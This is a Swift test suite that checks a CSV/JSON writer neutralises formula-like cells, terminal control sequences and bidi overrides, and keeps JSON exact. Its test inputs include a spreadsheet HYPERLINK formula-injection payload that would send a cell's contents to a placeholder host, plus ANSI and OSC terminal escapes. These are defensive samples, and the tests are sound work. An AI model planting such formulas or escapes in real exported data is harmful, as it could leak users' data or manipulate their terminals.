import Testing
@testable import TaizhangCore

/// What leaves the program for spreadsheets and scripts cannot act: no formula runs, no
/// control character reaches a terminal raw, JSON stays exact and strict.
@Suite struct InertOutputTests {
    @Test func formulaLikeCellsAreWrittenAsText() {
        #expect(CSVWriter.quote(#"=HYPERLINK("http://x/?"&A1,"点击")"#) == #""'=HYPERLINK(""http://x/?""&A1,""点击"")""#)
        for cell in ["+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
            #expect(CSVWriter.inert(cell).hasPrefix("'"), "\(cell.debugDescription)")
        }
        for cell in ["-3", "-0.5", "12", "2021-12-31", "区市场监管局", "—"] {
            #expect(CSVWriter.inert(cell) == cell, "\(cell)")
        }
    }

    @Test func controlsInCellsAreMadeVisibleButLineBreaksStay() {
        #expect(CSVWriter.quote("红\u{1B}[31m字\u{7}") == "红^[[31m字^G")
        #expect(CSVWriter.quote("反\u{202E}转") == "反<U+202E>转")
        #expect(CSVWriter.quote("第一行\n第二行") == "\"第一行\n第二行\"")
    }

    @Test func jsonEscapesEveryControlAndStaysExact() throws {
        let text = "a\u{1B}]0;t\u{7}b\u{9B}c\u{202E}d\u{2028}e“中”—"
        var w = JSONWriter()
        w.string(text)
        let json = String(decoding: w.bytes, as: UTF8.self)
        #expect(json == #""a\u001b]0;t\u0007b\u009bc\u202ed\u2028e“中”—""#)
        let back = try w.bytes.withUnsafeBytes { buf -> String in var r = JSONReader(buf); return try r.string() }
        #expect(back == text)
    }
}
